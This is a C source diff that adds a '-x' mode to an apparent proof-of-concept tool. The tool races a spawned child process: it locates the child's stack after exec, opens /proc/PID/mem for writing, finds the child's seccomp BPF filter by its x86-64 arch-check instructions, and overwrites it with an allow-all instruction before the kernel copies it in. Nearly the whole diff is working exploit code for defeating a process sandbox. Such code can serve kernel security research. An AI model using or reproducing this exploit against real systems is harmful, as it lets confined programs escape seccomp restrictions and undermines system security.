@@ -130,6 +130,127 @@ hammer_sealed(pid_t c)
 	return hits;
 }
 
+/* The child's [stack] now (it changes at the exec): 0 where none. */
+static int
+stack_of(pid_t c, unsigned long *lo, unsigned long *hi)
+{
+	char path[64], line[512];
+	int found = 0;
+	FILE *f;
+
+	snprintf(path, sizeof(path), "/proc/%d/maps", (int)c);
+	if ((f = fopen(path, "re")) == NULL)
+		return 0;
+	while (!found && fgets(line, sizeof(line), f) != NULL)
+		found = strstr(line, "[stack]") != NULL &&
+		    sscanf(line, "%lx-%lx", lo, hi) == 2 && *hi - *lo <= (1 << 24);
+	fclose(f);
+	return found;
+}
+
+/* The child's stack pointer from /proc/CHILD/syscall (its next to last
+ * word, in a call or not); 0 when unread. */
+static unsigned long
+sp_of(int sfd)
+{
+	char b[256], *w[9];
+	ssize_t n = pread(sfd, b, sizeof(b) - 1, 0);
+	int k = 0;
+
+	if (n <= 0)
+		return 0;
+	b[n] = '\0';
+	for (char *t = strtok(b, " \n"); t != NULL && k < 9; t = strtok(NULL, " \n"))
+		w[k++] = t;
+	return k >= 3 ? strtoul(w[k - 2], NULL, 16) : 0;
+}
+
+/*
+ * The child's stack after its exec (a [stack] other than the one it had
+ * from us), until the child ends: how many writes landed.  The first try
+ * scans it whole and learns where the program lies from the stack
+ * pointer (*off: it stays there); later tries watch that one place, fast
+ * enough to be there between the write and the kernel's copy.
+ */
+static int
+scan_stack(pid_t c, int sfd, uint8_t *buf, unsigned long *off, int *st)
+{
+	struct insn allow = { 0x06, 0, 0, 0x7fff0000 }, w[2];
+	unsigned long lo, hi, lo0 = 0, hi0 = 0, sp = 0;
+	char path[64];
+	int fd = -1, hits = 0;
+	ssize_t n;
+
+	if (!stack_of(getpid(), &lo0, &hi0))
+		return 0;
+	snprintf(path, sizeof(path), "/proc/%d/mem", (int)c);
+	for (long i = 0; i < 20000000; i++) {
+		if ((i & 1023) == 0 && waitpid(c, st, WNOHANG) == c)
+			break;
+		if (fd == -1) {
+			if (!stack_of(c, &lo, &hi) || (lo == lo0 && hi == hi0) ||
+			    (sp = sp_of(sfd)) < lo || sp >= hi)
+				continue;	/* not exec'd yet */
+			if ((fd = open(path, O_RDWR | O_CLOEXEC)) == -1)
+				break;
+		}
+		if (*off != 0) {
+			if (pread(fd, w, sizeof(w), (off_t)(sp - *off)) !=
+			    sizeof(w))
+				break;
+			if (w[0].code == 0x20 && w[0].k == 4 &&
+			    w[1].code == 0x15 && w[1].k == 0xc000003e &&
+			    pwrite(fd, &allow, sizeof(allow),
+			    (off_t)(sp - *off)) == sizeof(allow))
+				hits++;
+			continue;
+		}
+		if ((n = pread(fd, buf, hi - lo, (off_t)lo)) <= 0)
+			break;
+		for (ssize_t at = 0; at + 16 <= n; at += 8) {
+			memcpy(w, buf + at, sizeof(w));
+			if (w[0].code == 0x20 && w[0].k == 4 &&
+			    w[1].code == 0x15 && w[1].k == 0xc000003e &&
+			    lo + (unsigned long)at < sp) {
+				*off = sp - (lo + (unsigned long)at);
+				hits += pwrite(fd, &allow, sizeof(allow),
+				    (off_t)(lo + (unsigned long)at)) ==
+				    sizeof(allow);
+			}
+		}
+	}
+	if (fd != -1)
+		close(fd);
+	return hits;
+}
+
+static int
+stacked(int tries, char **argv)
+{
+	uint8_t *buf = malloc(1 << 24);
+	unsigned long off = 0;
+	int sfd, st = 0, hits;
+	pid_t c;
+
+	if (buf == NULL)
+		return 1;
+	for (int k = 0; k < tries; k++) {
+		if ((c = spawn(argv, &sfd)) == -1)
+			return 1;
+		hits = scan_stack(c, sfd, buf, &off, &st);
+		if (waitpid(c, &st, WNOHANG) == 0) {
+			kill(c, SIGKILL);
+			waitpid(c, &st, 0);
+		}
+		close(sfd);
+		printf("try %d: %d writes landed (%lu below sp), status "
+		    "0x%x\n", k, hits, off, st);
+		if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
+			return 0;
+	}
+	return 1;
+}
+
 static int
 sealed(int tries, char **argv)
 {
@@ -169,9 +290,10 @@ main(int argc, char **argv)
 	pid_t c;
 
 	bool seal = argc > 1 && strcmp(argv[1], "-s") == 0;
+	bool scan = argc > 1 && strcmp(argv[1], "-x") == 0;
 
-	argv += seal;
-	argc -= seal;
+	argv += seal || scan;
+	argc -= seal || scan;
 	if (argc < 3)
 		return 2;
 	tries = atoi(argv[1]);
@@ -181,6 +303,8 @@ main(int argc, char **argv)
 	}
 	if (seal)
 		return sealed(tries, argv + 2);
+	if (scan)
+		return stacked(tries, argv + 2);
 	/* where the filter lies: the seccomp call's program below the sp
 	 * of the calls before it (mmap, mseal) */
 	for (int cal = 0; cal < 10 && off == 0; cal++) {
